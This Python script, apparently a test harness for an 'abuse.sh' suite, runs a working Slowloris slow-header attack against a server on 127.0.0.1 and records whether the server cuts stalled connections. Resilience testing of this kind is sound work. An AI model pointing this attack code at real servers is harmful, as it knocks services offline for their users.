#!/usr/bin/env python3
"""slowloris.py -- a slow-header attack on an HTTP server, for abuse.sh.

    slowloris.py PORT SOURCES PER_SOURCE INTERVAL_S DURATION_S OUT_JSON

From each of SOURCES local addresses (127.0.0.1 .. 127.0.0.SOURCES) it keeps
PER_SOURCE connections open, each sending a request line and then one header
line every INTERVAL_S seconds, never the blank line that ends the headers.
A connection the server closes or refuses is opened again at the next
round.  After DURATION_S it writes what it saw as JSON:

  opened      connections the server accepted
  refused     connect() failed or closed before the first round
  cut         accepted connections the server closed later, while the
              attack kept them alive (a server without a request deadline
              never does: each line resets its idle timer)
  open_max    most connections open at once
  life_max_s  the longest time one connection stayed open
"""
import json
import socket
import sys
import time

port, sources, per_source, interval, duration = (int(sys.argv[1]), int(sys.argv[2]),
                                                 int(sys.argv[3]), float(sys.argv[4]),
                                                 float(sys.argv[5]))
out = sys.argv[6]
slots = [{"src": "127.0.0.%d" % (1 + s), "sock": None, "t0": 0.0, "sent": 0}
         for s in range(sources) for _ in range(per_source)]
stats = {"opened": 0, "refused": 0, "cut": 0, "open_max": 0, "life_max_s": 0.0}
end = time.monotonic() + duration


def close(slot, now, cut):
    try:
        slot["sock"].close()
    except OSError:
        pass
    if cut:
        stats["cut"] += 1
    else:
        stats["refused"] += 1
    stats["life_max_s"] = max(stats["life_max_s"], now - slot["t0"])
    slot["sock"] = None


while time.monotonic() < end:
    round_start = time.monotonic()
    for slot in slots:
        now = time.monotonic()
        if slot["sock"] is None:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            try:
                s.bind((slot["src"], 0))
                s.settimeout(2)
                s.connect(("127.0.0.1", port))
                s.sendall(b"GET /api/v1/health HTTP/1.1\r\nHost: x\r\n")
                s.setblocking(False)
            except OSError:
                s.close()
                stats["refused"] += 1
                continue
            slot.update(sock=s, t0=now, sent=1)
            stats["opened"] += 1
            continue
        # still open?  a closed one reads b"" (or fails)
        s = slot["sock"]
        try:
            data = s.recv(4096)
            if data == b"" or data:     # EOF, or an answer: the server ended it
                close(slot, now, slot["sent"] > 1)
                continue
        except BlockingIOError:
            pass
        except OSError:
            close(slot, now, slot["sent"] > 1)
            continue
        try:
            s.send(b"X-Slow-%d: %d\r\n" % (slot["sent"], slot["sent"]))
            slot["sent"] += 1
        except BlockingIOError:
            pass
        except OSError:
            close(slot, now, slot["sent"] > 1)
    stats["open_max"] = max(stats["open_max"], sum(1 for x in slots if x["sock"]))
    left = interval - (time.monotonic() - round_start)
    if left > 0:
        time.sleep(min(left, max(0.0, end - time.monotonic())))

now = time.monotonic()
for slot in slots:
    if slot["sock"] is not None:
        stats["life_max_s"] = max(stats["life_max_s"], now - slot["t0"])
        slot["sock"].close()
stats["life_max_s"] = round(stats["life_max_s"], 1)
with open(out, "w") as f:
    json.dump(stats, f)
